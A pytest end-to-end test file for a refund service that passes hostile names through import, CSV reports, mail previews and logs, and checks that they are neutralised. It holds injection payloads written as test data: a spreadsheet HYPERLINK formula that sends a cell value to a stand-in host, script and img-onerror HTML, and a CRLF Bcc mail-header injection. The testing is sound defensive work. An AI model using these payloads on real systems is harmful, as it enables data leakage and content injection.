"""Names that are formulas, markup or headers, from the import to the file, the mail and the log.

Other tests try many more names in each place: ``tests/unit/test_report_csv.py``,
``test_message_content_safety.py``, ``test_statements.py``, ``tests/integration/test_mail.py``.
"""

import csv
import io
import json
from typing import Any

import pytest

from tests.e2e.world import DeployedStack

pytestmark = pytest.mark.stack

PARENT = '=HYPERLINK("http://formula.example?"&A1,"<img src=x onerror=alert(1)>")'
SUBJECT = "+SUM(A1:A9)</td><script>alert(1)</script>"
FORMULA = ("=", "+", "-", "@", "\t", "\r")
FUNCTIONS = ("import_orders", "refund_request", "find_orders", "send_message", "refund_report")


@pytest.fixture(scope="module")
def refund(world: DeployedStack) -> dict[str, Any]:
    """A settled refund of an order whose names are hostile."""
    order_id = world.sell(
        parent={"name": PARENT, "email": "wilhelmina@mail.example"},
        subjects=[{"subject_id": "sub_1", "name": SUBJECT}],
    )
    return world.await_status(world.refund(order_id, {"type": "full", "note": PARENT}), "settled")


def test_no_cell_of_the_report_begins_a_formula(
    world: DeployedStack, refund: dict[str, Any]
) -> None:
    answer = world.call("GET", "/reports/refunds?format=csv")
    assert answer.status_code == 200
    rows = list(csv.DictReader(io.StringIO(answer.content.decode("utf-8-sig"), newline="")))
    (row,) = [row for row in rows if row["refund_id"] == refund["refund_id"]]
    assert row["parent_name"] == f"'{PARENT}"
    assert row["subject_names"] == f"'{SUBJECT}"
    texts = [cell for name, cell in row.items() if not name.endswith("_amount")]
    assert not [cell for cell in texts if cell.startswith(FORMULA)]


def test_a_mail_shows_the_name_as_plain_text(world: DeployedStack, refund: dict[str, Any]) -> None:
    answer = world.call(
        "POST",
        f"/orders/{refund['order_id']}/messages/preview",
        {"template": "refund_confirmation", "refund_id": refund["refund_id"]},
    )
    assert answer.status_code == 200, answer.text
    draft = answer.json()
    assert PARENT in draft["text"]
    for markup in ("<img", "<script", "onerror=alert(1)>"):
        assert markup not in draft["html"]
    for header in ("subject", "from", "to"):
        assert draft[header].isprintable()


@pytest.mark.parametrize("break_", ["\r\nBcc: eve@mail.example", "\x1b[2J", "\u2028", "\u202e"])
@pytest.mark.parametrize("whose", ["parent", "subject"])
def test_a_name_with_a_line_break_or_control_is_not_imported(
    world: DeployedStack, whose: str, break_: str
) -> None:
    name = f"Ann{break_}"
    record = world.order(
        parent={"name": name if whose == "parent" else "Ann", "email": None},
        subjects=[{"subject_id": "sub_1", "name": name if whose == "subject" else "Ann"}],
    )
    report = world.invoke("import_orders", {"orders": [json.dumps(record)]})
    assert report["imported"] == 0
    assert len(report["refused"]) == 1


def test_no_name_reaches_a_log_and_each_line_is_one_object_of_ascii(
    world: DeployedStack, refund: dict[str, Any]
) -> None:
    world.call("GET", f"/orders/{refund['order_id']}")
    written = {function: world.stack.log_lines(function) for function in FUNCTIONS}
    assert any(refund["refund_id"] in line for line in written["refund_request"])
    for line in (line for lines in written.values() for line in lines if line.startswith("{")):
        assert isinstance(json.loads(line), dict)
        assert line.isascii()
        assert "formula.example" not in line
        assert "SUM(A1" not in line
